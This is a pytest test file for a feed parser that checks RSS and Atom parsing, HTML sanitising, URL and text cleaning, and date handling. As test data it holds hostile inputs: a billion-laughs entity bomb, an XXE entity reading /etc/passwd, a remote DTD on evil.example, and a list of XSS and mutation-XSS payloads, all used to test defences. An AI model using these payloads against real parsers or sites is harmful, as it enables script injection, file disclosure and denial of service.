"""Parsing and cleaning: declarations refused before parsing, HTML cleaned, text kept as text,
dates made aware, one bad entry skipped and counted."""

from __future__ import annotations

import datetime

import pytest

from feeds import parsing
from feeds.parsing import ParseError, clean_html, clean_text, clean_url, parse

NOW = datetime.datetime(2026, 11, 23, 12, 0, tzinfo=datetime.UTC)


def rss(items: str, channel: str = "<title>Partner news</title><link>https://partner.example/</link>") -> bytes:
    document = f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>{channel}{items}</channel></rss>'
    return document.encode()


def item(**fields: str) -> str:
    return "<item>" + "".join(f"<{name}>{value}</{name}>" for name, value in fields.items()) + "</item>"


ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title type="html">Observatoire &lt;b&gt;EU&lt;/b&gt;</title>
  <link href="https://observatory.example/"/>
  <id>urn:uuid:feed</id><updated>2026-11-20T10:00:00Z</updated>
  <entry>
    <title>Rapport</title><id>urn:uuid:1</id>
    <link href="https://observatory.example/rapport"/>
    <updated>2026-11-20T10:00:00+02:00</updated><published>2026-11-19T08:00:00Z</published>
    <author><name>Équipe</name></author>
    <category term="disinformation"/><category term="disinformation"/><category term="G20"/>
    <content type="html">&lt;p&gt;Texte &lt;script&gt;alert(1)&lt;/script&gt;&lt;/p&gt;</content>
    <link rel="enclosure" href="https://observatory.example/r.pdf" type="application/pdf" length="1234"/>
    <link rel="enclosure" href="javascript:alert(1)" type="text/html"/>
  </entry>
</feed>""".encode()


def test_rss_entries_are_read_and_cleaned():
    feed = parse(
        rss(
            item(
                title="G20 &amp; the &lt;i&gt;summit&lt;/i&gt;",
                link="https://partner.example/a",
                guid="tag:partner,2026:1",
                description="&lt;p&gt;Read &lt;a href='/more'&gt;more&lt;/a&gt;&lt;/p&gt;",
                pubDate="Mon, 02 Nov 2026 10:00:00 +0100",
                author="press@partner.example (Press office)",
            )
        ),
        now=NOW,
    )
    assert (feed.title, feed.link, feed.skipped) == ("Partner news", "https://partner.example/", 0)
    entry = feed.entries[0]
    assert entry.title == "G20 & the summit"
    assert entry.guid == "tag:partner,2026:1"
    assert entry.link == "https://partner.example/a"
    link = '<a href="https://partner.example/more" rel="noopener noreferrer nofollow">more</a>'
    assert entry.summary == f"<p>Read {link}</p>"
    assert entry.published == datetime.datetime(2026, 11, 2, 9, 0, tzinfo=datetime.UTC)


def test_atom_entries_are_read_and_cleaned():
    feed = parse(ATOM, now=NOW)
    assert feed.title == "Observatoire EU"
    assert feed.language == "fr"
    entry = feed.entries[0]
    assert entry.guid == "urn:uuid:1"
    assert entry.updated == datetime.datetime(2026, 11, 20, 8, 0, tzinfo=datetime.UTC)
    assert entry.published == datetime.datetime(2026, 11, 19, 8, 0, tzinfo=datetime.UTC)
    assert entry.author == "Équipe"
    assert entry.categories == ["disinformation", "G20"]
    assert entry.content == "<p>Texte </p>"
    assert [(e.url, e.type, e.length) for e in entry.enclosures] == [
        ("https://observatory.example/r.pdf", "application/pdf", 1234)
    ]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""
BIG_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "'
    + b"x" * 100_000
    + b'">]><rss version="2.0"><channel><title>'
    + b"&big;" * 2000
    + b"</title></channel></rss>"
)


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        BIG_ENTITY,
        b'<!-- hi --><?xml-stylesheet href="x"?>\n<!doctype rss><rss/>',
        b'\xef\xbb\xbf<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss/>',
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><rss/>'.encode("utf-16"),
        rss(item(title="x"), channel='<title>t</title><!ENTITY sneaky "x">'),
    ],
)
def test_declarations_are_refused_before_parsing(document, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("feedparser must not see this document")

    monkeypatch.setattr(parsing.feedparser, "parse", never)
    with pytest.raises(ParseError, match="DOCTYPE or entities"):
        parse(document)


@pytest.mark.parametrize("document", [b"", b"   ", b"not a feed at all", b"<html><body>Hello</body></html>"])
def test_what_is_not_a_feed_is_a_clear_error(document):
    with pytest.raises(ParseError):
        parse(document)


def test_a_string_is_never_taken_for_an_address():
    with pytest.raises(ParseError, match="bytes"):
        parse("/etc/passwd")


@pytest.mark.parametrize(
    "payload",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<img src="x" onerror="alert(1)">',
        '<svg onload="alert(1)"><circle/></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<form action="https://evil.example/"><input name="pw"></form>',
        "<style>body{background:url(javascript:alert(1))}</style>",
        '<p style="background:url(javascript:alert(1))">x</p>',
        "<script>alert(1)</script>",
        '<iframe src="https://evil.example/"></iframe>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    ],
)
def test_hostile_html_is_cleaned(payload):
    cleaned = clean_html(payload, "https://partner.example/")
    lowered = cleaned.lower()
    for forbidden in ("javascript", "onerror", "onload", "onclick", "<script", "<svg", "<math", "<form", "<style",
                      "<iframe", "data:", "style="):  # fmt: skip
        assert forbidden not in lowered, (payload, cleaned)


def test_links_in_content_are_absolute_http_or_mailto():
    cleaned = clean_html(
        '<a href="/a">a</a><a href="mailto:x@partner.example">m</a><img src="ftp://x/y.png">',
        "https://partner.example/news/",
    )
    assert 'href="https://partner.example/a"' in cleaned
    assert 'href="mailto:x@partner.example"' in cleaned
    assert "ftp:" not in cleaned


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://partner.example/a", "https://partner.example/a"),
        ("/a", "https://partner.example/a"),
        ("javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("file:///etc/passwd", ""),
        ("ftp://partner.example/x", ""),
        ("https://partner.example/a b", ""),
        (None, ""),
    ],
)
def test_entry_links_are_http_only(value, expected):
    assert clean_url(value, "https://partner.example/") == expected


def test_control_characters_and_lone_surrogates_are_removed():
    assert clean_text("A\x00B\x07C\x1b\x85D\ud800E\ufffe F") == "ABCDE F"
    feed = parse(rss(item(title="Nul\x01 title", guid="g\x02", description="Text\x0b here")), now=NOW)
    entry = feed.entries[0]
    assert (entry.title, entry.guid) == ("Nul title", "g")
    assert "\x0b" not in entry.summary
    # Invalid UTF-8 (an encoded lone surrogate) never reaches the stored text.
    raw = rss(item(title="Bad \xff", guid="x")).replace("\xff".encode(), b"\xed\xa0\x80")
    title = parse(raw, now=NOW).entries[0].title
    assert not any(0xD800 <= ord(char) <= 0xDFFF for char in title)


def test_missing_and_absurd_dates_are_left_empty():
    feed = parse(
        rss(
            item(title="none", guid="1")
            + item(title="old", guid="2", pubDate="Thu, 01 Jan 1970 00:00:00 GMT")
            + item(title="future", guid="3", pubDate="Fri, 01 Jan 2100 00:00:00 GMT")
            + item(title="junk", guid="4", pubDate="yesterday-ish")
        ),
        now=NOW,
    )
    assert [entry.published for entry in feed.entries] == [None, None, None, None]


def test_a_feed_without_guids_keeps_its_entries():
    feed = parse(rss(item(title="a", link="https://partner.example/a") + item(title="b")), now=NOW)
    assert [(entry.guid, entry.link) for entry in feed.entries] == [("", "https://partner.example/a"), ("", "")]


def test_lengths_are_capped():
    feed = parse(rss(item(title="t" * 5000, guid="g" * 5000, description="&lt;p&gt;" + "x" * 200_000)), now=NOW)
    entry = feed.entries[0]
    assert len(entry.title) == parsing.MAX_TITLE
    assert len(entry.guid) == parsing.MAX_GUID
    assert len(entry.summary) <= parsing.MAX_HTML + 20


def test_one_bad_entry_is_skipped_and_counted(monkeypatch):
    real = parsing._entry

    def fragile(raw, base, now):
        if raw.get("title") == "bad":
            raise ValueError("broken entry")
        return real(raw, base, now)

    monkeypatch.setattr(parsing, "_entry", fragile)
    items = item(title="good", guid="1") + item(title="bad", guid="2") + item(title="fine", guid="3")
    feed = parse(rss(items), now=NOW)
    assert [entry.title for entry in feed.entries] == ["good", "fine"]
    assert feed.skipped == 1
    assert feed.problems == ["entry 2: ValueError"]


@pytest.mark.parametrize("length", ["²", "١٢٣", "１２", "12a", "-5"])
def test_an_enclosure_length_that_is_not_ascii_digits_is_left_empty(length):
    enclosure = f'<enclosure url="https://partner.example/r.pdf" type="application/pdf" length="{length}"/>'
    document = rss(f"<item><title>T</title><link>https://partner.example/a</link>{enclosure}</item>")

    (entry,) = parse(document).entries

    assert [(e.url, e.length) for e in entry.enclosures] == [("https://partner.example/r.pdf", None)]
